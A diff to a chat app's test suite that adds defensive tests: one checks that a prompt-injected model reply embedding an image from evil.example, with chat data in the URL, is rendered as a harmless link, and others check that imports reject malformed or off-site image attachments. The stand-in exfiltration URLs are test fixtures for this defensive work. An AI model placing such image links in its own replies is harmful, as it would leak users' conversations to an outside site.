@@ -6,6 +6,7 @@ import base64
 import contextlib
 import datetime
 import hashlib
+import json
 import re
 from collections.abc import Iterator
 
@@ -68,6 +69,19 @@ def test_free_visitor_gets_a_streamed_markdown_reply(chat_app, client):
     again = read_stream(client, url)
     assert [n for n, _ in again] == ["final", "done"]
     assert chat_app.upstream.started == before
+
+
+def test_a_reply_cannot_embed_an_image_from_another_site(chat_app, client):
+    """A prompt-injected reply must not send the chat to another site through an image URL."""
+    chat_app.upstream.replies.append("Done. ![the chat](https://evil.example/leak.png?q=secret) "
+                                     "![ours](/static/logo.png) [![nested](https://evil.example/n.png)](/pricing)")
+    sent = client.post("/chat/send", data={"content": "my secret", "model": "gpt-4o-mini"})
+    events = read_stream(client, stream_url(sent.text))
+    conv = Conversation.select().order_by(Conversation.id.desc()).first()
+    for html in ("".join(data for _, data in events), client.get(f"/c/{conv.id}").text):
+        assert set(re.findall(r"<img [^>]*>", html)) == {'<img src="/static/logo.png" alt="ours">'}
+        assert '<a href="https://evil.example/leak.png?q=secret" rel="noopener noreferrer nofollow">the chat</a>' in html
+        assert "nested" in html
 
 
 PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
@@ -205,6 +219,54 @@ def test_import_refuses_bad_files_whole(client, payload, message):
     resp = client.post("/chat/import", files={"file": ("x.json", payload, "application/json")})
     assert message in resp.text and resp.headers["HX-Retarget"] == "#import-notice"
     assert Conversation.select().count() == before
+
+
+PNG_URL = "data:image/png;base64," + base64.b64encode(PNG).decode()
+
+
+def exported(attachments) -> bytes:
+    return json.dumps({"format": "permachat.conversations", "conversations": [{"title": "pic", "messages": [
+        {"role": "user", "content": "look", "attachments": attachments}]}]}).encode()
+
+
+@pytest.mark.parametrize("attachments", [
+    [{"type": "image"}], [{"type": "image", "url": 5}], [{"type": "image", "url": "https://evil.example/x.png"}],
+    [{"type": "image", "url": "data:text/html;base64,PGI+"}], [{"type": "image", "url": PNG_URL, "name": ["x"]}],
+    ["just text"], {"type": "image", "url": PNG_URL}, [{"type": "image", "url": PNG_URL}] * 5,
+])
+def test_import_refuses_a_malformed_attachment_with_a_clear_message(client, attachments):
+    before = Conversation.select().count()
+    resp = client.post("/chat/import", files={"file": ("x.json", exported(attachments), "application/json")})
+    assert "Conversation 1, message 1:" in resp.text and resp.headers["HX-Retarget"] == "#import-notice"
+    assert Conversation.select().count() == before
+    zh = client.post("/chat/import", files={"file": ("x.json", exported(attachments), "application/json")},
+                     headers={"Accept-Language": "zh-CN"})
+    assert "第 1 个对话的第 1 条消息" in zh.text
+
+
+def test_imported_numbers_and_dates_out_of_range_do_not_break_the_import(client):
+    document = {"format": "permachat.conversations", "conversations": [{
+        "title": "odd", "created_at": "9999-12-31T23:59:59-01:00", "messages": [
+            {"role": "assistant", "content": "hi", "prompt_tokens": 10**30, "cost_quota": 1e400,
+             "completion_tokens": "1" * 40, "created_at": "0001-01-01T00:00:00+01:00",
+             "attachments": [{"type": "image", "url": PNG_URL, "name": "dot.png"}]}]}]}
+    payload = json.dumps(document).replace("Infinity", "1e400").encode()
+    resp = client.post("/chat/import", files={"file": ("x.json", payload, "application/json")})
+    assert resp.status_code == 200 and "odd" in resp.text
+    conv = Conversation.select().order_by(Conversation.id.desc()).first()
+    assert client.get(f"/c/{conv.id}").status_code == 200
+
+
+def test_a_stored_malformed_attachment_still_shows_its_conversation(client):
+    """Rows imported before attachments were checked can hold anything: the page shows, without them."""
+    client.post("/chat/import", files={"file": ("x.json", exported([]), "application/json")})
+    conv = Conversation.select().order_by(Conversation.id.desc()).first()
+    Message.update(attachments=[{"type": "image"}, {"type": "image", "url": 5}, "text", None,
+                                {"type": "image", "url": PNG_URL, "name": "dot.png"}]).where(
+        Message.conversation == conv.id).execute()
+    page = client.get(f"/c/{conv.id}")
+    assert page.status_code == 200 and "look" in page.text
+    assert page.text.count("<img ") == 1 and f'src="{PNG_URL}"' in page.text
 
 
 def test_empty_and_locked_sends_say_why(chat_app, client):
